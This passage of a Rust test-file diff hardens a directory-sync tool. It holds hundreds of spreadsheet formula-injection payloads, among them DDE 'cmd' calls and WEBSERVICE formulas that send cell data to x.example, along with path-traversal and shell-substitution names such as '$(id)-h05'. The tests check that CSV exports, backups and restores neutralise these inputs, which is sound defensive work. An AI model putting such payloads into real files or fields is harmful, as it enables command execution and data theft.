@@ -8,9 +8,11 @@ mod support;
 use std::collections::BTreeSet;
 use std::path::{Path, PathBuf};
 
+use entrain_emulator::Options;
 use entrain_emulator::control::WorldChange;
+use entrain_emulator::world::generate::{GenerateOptions, generate};
 use serde_json::{Value, json};
-use support::Bench;
+use support::{Bench, entrain_in};
 
 fn change(bench: &Bench, change: Value) {
     let change: WorldChange = serde_json::from_value(change).unwrap();
@@ -68,11 +70,8 @@ fn the_log_is_listed_by_moment_and_object_and_exported_whole() {
     assert!(again.err().contains("log.jsonl"), "an export never replaces a file: {}", again.err());
 }
 
-/// H-04: names that a spreadsheet would compute.
-#[test]
-fn h_04_no_export_has_a_cell_that_a_spreadsheet_computes() {
-    let bench = Bench::demo();
-    bench.add("\"*\"");
+/// Names that a spreadsheet would compute, each of its own.
+fn formulas() -> Vec<String> {
     let starts = [
         "=",
         "+",
@@ -89,24 +88,72 @@ fn h_04_no_export_has_a_cell_that_a_spreadsheet_computes() {
         "＠",
         "\u{200B}=",
         "\u{FEFF}=",
+        "\u{A0}=",
+        "\u{3000}+",
+        "\u{202E}=",
+        "==",
+        "-+",
     ];
-    let bodies =
-        ["1+1", "HYPERLINK(\"http://x.example\",\"y\")", "cmd|' /C calc'!A0", "SUM(A1:A9)", "2,3;4\"5"];
-    let corpus: Vec<String> =
-        starts.iter().flat_map(|s| bodies.iter().map(move |b| format!("{s}{b}"))).collect();
-    assert!(corpus.len() >= 75);
-    let users: Vec<String> = bench.emulator.state().world().tenant.users.keys().cloned().collect();
-    let accounts: Vec<String> = bench.emulator.state().world().tenant.groups.keys().cloned().collect();
-    for (n, name) in corpus.iter().enumerate() {
-        if let Some(user) = users.get(n) {
-            change(&bench, json!({"change": "update_user", "user": user, "set": {"displayName": name}}));
-        }
-        if let Some(group) = accounts.get(n) {
-            change(&bench, json!({"change": "rename_group", "group": group, "name": name}));
-        }
+    let bodies = [
+        "1+1",
+        "1",
+        "A1",
+        "-1",
+        "1e9",
+        "0x1F",
+        "TRUE",
+        "PI()",
+        "NOW()",
+        "SUM(A1:A9)",
+        "SUM(1,2)",
+        "1;2",
+        "A1&B1",
+        "HYPERLINK(\"http://x.example\",\"y\")",
+        "HYPERLINK(\"http://x.example/?\"&A1;\"y\")",
+        "cmd|' /C calc'!A0",
+        "MSEXCEL|'\\..\\..\\x.exe'!A1",
+        "DDE(\"cmd\";\"/C calc\";\"x\")",
+        "WEBSERVICE(\"http://x.example/\"&A2)",
+        "IMPORTXML(CONCAT(\"http://x.example/\",A2),\"//a\")",
+        "IMAGE(\"http://x.example/i\")",
+        "2,3;4\"5",
+        "\"quoted\"",
+        "a,b;c\td",
+        "rundll32|'URL.dll,OpenURL http://x.example'!A",
+    ];
+    let all = starts.iter().flat_map(|start| bodies.iter().map(move |body| format!("{start}{body}")));
+    all.collect()
+}
+
+/// H-04: names that a spreadsheet would compute. 500 of them, of people and of groups, in every export that there is.
+#[test]
+fn h_04_no_export_has_a_cell_that_a_spreadsheet_computes() {
+    let corpus = formulas();
+    assert!(corpus.len() >= 500, "only {}", corpus.len());
+    let mut world = generate(&GenerateOptions {
+        people: corpus.len(),
+        groups: 60,
+        members_per_group: 20,
+        clashes: false,
+        ..GenerateOptions::default()
+    });
+    for (user, name) in world.tenant.users.values_mut().zip(&corpus) {
+        user.display_name = Some(name.clone());
+        user.account_enabled = Some(true);
     }
+    for (group, name) in world.tenant.groups.values_mut().zip(corpus.iter().rev()) {
+        group.display_name = Some(name.clone());
+    }
+    let mut options = Options::with_world(world);
+    options.settings.atlassian.throttle = false;
+    options.settings.graph.throttle = false;
+    let bench = Bench::of(options);
+    let document = bench.document("\"*\"").replace("[scope]\ngroups", "[scope]\nusers = \"all\"\ngroups");
+    let path = bench.file("connection.toml", &document);
+    bench.entrain(&["connection", "add", path.to_str().unwrap()]).expect(0);
     synced(&bench);
-    for user in users.iter().take(6) {
+    let users: Vec<String> = bench.emulator.state().world().tenant.users.keys().cloned().collect();
+    for user in users.iter().step_by(25) {
         change(&bench, json!({"change": "disable_user", "user": user}));
     }
     let exports = [
@@ -115,9 +162,11 @@ fn h_04_no_export_has_a_cell_that_a_spreadsheet_computes() {
         &["report", "unlinked", "--format", "csv"],
         &["report", "drift", "--format", "csv"],
         &["report", "seats", "--format", "csv"],
+        &["report", "ladder", "--format", "csv"],
         &["report", "credentials", "--format", "csv"],
     ];
-    let mut escaped = 0;
+    let mut escaped = BTreeSet::new();
+    let mut cells = 0;
     for args in exports {
         let text = bench.entrain(args).expect(0).out();
         assert!(!text.chars().any(|c| c.is_control() && c != '\r' && c != '\n'), "{args:?}: {text:?}");
@@ -127,8 +176,14 @@ fn h_04_no_export_has_a_cell_that_a_spreadsheet_computes() {
             let record = record.unwrap();
             assert_eq!(record.len(), width, "{args:?}: {record:?}");
             for cell in &record {
-                escaped += usize::from(cell.starts_with('\''));
-                let seen = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{FFFD}');
+                cells += 1;
+                if cell.starts_with('\'') {
+                    escaped.insert(cell.to_owned());
+                }
+                let hidden = |c: char| {
+                    c.is_whitespace() || matches!(c, '\u{FFFD}' | '\u{200B}' | '\u{FEFF}' | '\u{202E}')
+                };
+                let seen = cell.trim_start_matches(hidden);
                 let number = seen.parse::<f64>().is_ok();
                 assert!(
                     number || !seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']),
@@ -137,7 +192,8 @@ fn h_04_no_export_has_a_cell_that_a_spreadsheet_computes() {
             }
         }
     }
-    assert!(escaped > 0, "the corpus reached the exports");
+    println!("{cells} cells, {} escaped", escaped.len());
+    assert!(escaped.len() >= 500, "only {} different cells of the corpus reached the exports", escaped.len());
 }
 
 /// Every file below a folder.
@@ -156,57 +212,148 @@ fn tree(folder: &Path) -> BTreeSet<PathBuf> {
     found
 }
 
-/// H-05: names of connections, groups and people never become paths.
+/// Names that lead elsewhere when somebody takes them for a path.
+fn paths() -> Vec<String> {
+    let ups = [
+        "../",
+        "../../",
+        "../../../../../",
+        "..\\",
+        "..\\..\\",
+        "%2e%2e%2f",
+        "%2e%2e/",
+        "....//",
+        "..;/",
+        "./../",
+    ];
+    let roots = [
+        "/tmp/",
+        "/",
+        "//",
+        "C:\\",
+        "C:",
+        "\\\\host\\share\\",
+        "\\\\?\\C:\\",
+        "file:///tmp/",
+        "~/",
+        "~root/",
+        "$HOME/",
+        "%TEMP%\\",
+    ];
+    let names = ["h05", "h05.toml", "data/h05", "h05/", "h05/..", "h05;id", "h05 ", "h05."];
+    let devices = [
+        "CON",
+        "PRN",
+        "AUX",
+        "NUL",
+        "COM1",
+        "LPT1",
+        "NUL.txt",
+        "con.toml",
+        "h05.",
+        "..",
+        ".",
+        "...",
+        ".hidden-h05",
+        "-h05",
+        "--out=/tmp/h05",
+        "`id`-h05",
+        "$(id)-h05",
+        "h05|id",
+        "h05>x",
+        "h05*",
+        "h05?",
+        "h05:stream",
+        "a/b/c",
+        "data",
+        "entrain.db",
+    ];
+    let made =
+        ups.iter().chain(&roots).flat_map(|lead| names.iter().map(move |name| format!("{lead}{name}")));
+    made.chain(devices.iter().map(|name| (*name).to_owned())).collect()
+}
+
+/// What a test of paths may have left behind elsewhere.
+fn astray(folder: &Path) -> BTreeSet<PathBuf> {
+    let entries = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
+    entries.filter(|path| path.to_string_lossy().contains("h05")).collect()
+}
+
+/// H-05: names of connections, groups and people never become paths, in nothing that is exported or backed up.
 #[test]
 fn h_05_no_name_takes_a_file_out_of_its_folder() {
     let bench = Bench::demo();
-    let names = [
-        "../../escape",
-        "..",
-        "../data/../../x",
-        "/tmp/entrain-h05-absolute",
-        "C:\\\\entrain-h05",
-        "CON",
-        "NUL.txt",
-        "a/b/c",
-        "\\\\\\\\host\\\\share",
-        "%2e%2e%2fx",
-        "..\\\\..\\\\x",
-        "~/entrain-h05",
-        "$HOME/x",
-        ".hidden",
-    ];
-    let group = {
-        let world = bench.emulator.state().world();
-        world.tenant.groups.keys().next().unwrap().clone()
-    };
-    change(&bench, json!({"change": "rename_group", "group": group, "name": "../../entrain-h05-group"}));
+    let names = paths();
+    assert!(names.len() >= 200, "only {}", names.len());
+    let groups: Vec<String> = bench.emulator.state().world().tenant.groups.keys().cloned().collect();
+    for (group, name) in groups.iter().zip(names.iter().step_by(7)) {
+        change(&bench, json!({"change": "rename_group", "group": group, "name": name}));
+    }
     let root = bench.folder.path().to_owned();
-    let outside = root.parent().unwrap().to_owned();
-    let beside = |outside: &Path| -> BTreeSet<PathBuf> {
-        let entries = std::fs::read_dir(outside).unwrap().map(|e| e.unwrap().path());
-        entries
-            .filter(|p| p.to_string_lossy().contains("h05") || p.to_string_lossy().contains("escape"))
-            .collect()
+    let outside = [root.parent().unwrap().to_owned(), PathBuf::from("/tmp"), PathBuf::from("/")];
+    for folder in &outside {
+        assert_eq!(astray(folder), BTreeSet::new());
+    }
+    let assert_inside = |before: &BTreeSet<PathBuf>, allowed: &[PathBuf], what: &str| {
+        let written: Vec<PathBuf> = tree(&root).difference(before).cloned().collect();
+        for path in &written {
+            assert!(allowed.contains(path) || path.starts_with(root.join("data")), "{what}: {path:?}");
+        }
+        for folder in &outside {
+            assert_eq!(astray(folder), BTreeSet::new(), "{what}");
+        }
     };
-    assert_eq!(beside(&outside), BTreeSet::new());
-    for name in names {
-        let document = bench.document("\"*\"").replace("name = \"Azure AD\"", &format!("name = \"{name}\""));
-        let path = bench.file("connection.toml", &document);
+    let document = |name: &str| {
+        let text = serde_json::to_string(name).unwrap();
+        bench.document("\"*\"").replace("name = \"Azure AD\"", &format!("name = {text}"))
+    };
+    let mut stored = Vec::new();
+    for (at, name) in names.iter().enumerate() {
+        let path = bench.file("connection.toml", &document(name));
         let file = path.to_str().unwrap();
         let before = tree(&root);
         let plan = root.join("plan.json");
-        bench.entrain(&["plan", "--connection-file", file, "--out", plan.to_str().unwrap(), "--json"]);
-        bench.entrain(&["connection", "add", file]);
-        bench.entrain(&["report", "unlinked", "--connection-file", file, "--format", "csv"]);
-        let written: Vec<PathBuf> = tree(&root).difference(&before).cloned().collect();
-        for path in &written {
-            assert!(*path == plan || path.starts_with(root.join("data")), "{name}: {path:?}");
+        if bench.entrain(&["connection", "add", file]).output.status.success() {
+            stored.push(name);
         }
+        // What takes longer, of some of each sort
+        if at % 9 == 0 {
+            bench.entrain(&["plan", "--connection-file", file, "--out", plan.to_str().unwrap(), "--json"]);
+            bench.entrain(&["report", "unlinked", "--connection-file", file, "--format", "csv"]);
+            bench.entrain(&["connection", "export", "--", name]);
+        }
+        assert_inside(&before, std::slice::from_ref(&plan), name);
         let _ = std::fs::remove_file(&plan);
-        assert_eq!(beside(&outside), BTreeSet::new(), "{name}");
-        assert_eq!(beside(Path::new("/tmp")), BTreeSet::new(), "{name}");
     }
+    // Most differ from another one in nothing that an address of the service would show
+    assert!(stored.len() >= 50, "only {} of the names were taken", stored.len());
+    // A backup with all of them, and back into another folder
+    let before = tree(&root);
+    let backup = root.join("all.backup");
+    bench.entrain(&["admin", "backup", backup.to_str().unwrap()]).expect(0);
+    assert_inside(&before, std::slice::from_ref(&backup), "backup");
+    let elsewhere = root.join("elsewhere");
+    std::fs::create_dir_all(elsewhere.join("data")).unwrap();
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt as _;
+        std::fs::set_permissions(elsewhere.join("data"), std::fs::Permissions::from_mode(0o700)).unwrap();
+    }
+    std::fs::copy(root.join("data/secret.key"), elsewhere.join("data/secret.key")).unwrap();
+    let before = tree(&root);
+    let restored = entrain_in(&elsewhere, &["admin", "restore", backup.to_str().unwrap()], &[]).expect(0);
+    let allowed: Vec<PathBuf> =
+        tree(&elsewhere).into_iter().filter(|p| p.starts_with(elsewhere.join("data"))).collect();
+    assert_inside(&before, &allowed, "restore");
+    assert!(restored.output.status.success());
+    let listed = entrain_in(&elsewhere, &["connection", "list", "--json"], &[]).expect(0).json();
+    let listed: BTreeSet<&str> =
+        listed.as_array().unwrap().iter().map(|c| c["name"].as_str().unwrap()).collect();
+    assert_eq!(
+        listed,
+        stored.iter().map(|name| name.as_str()).collect(),
+        "as they are called, and nothing else"
+    );
     // An export goes to the file that the operator names, and stays away from what is there already
     let target = root.join("there.jsonl");
     std::fs::write(&target, "mine").unwrap();
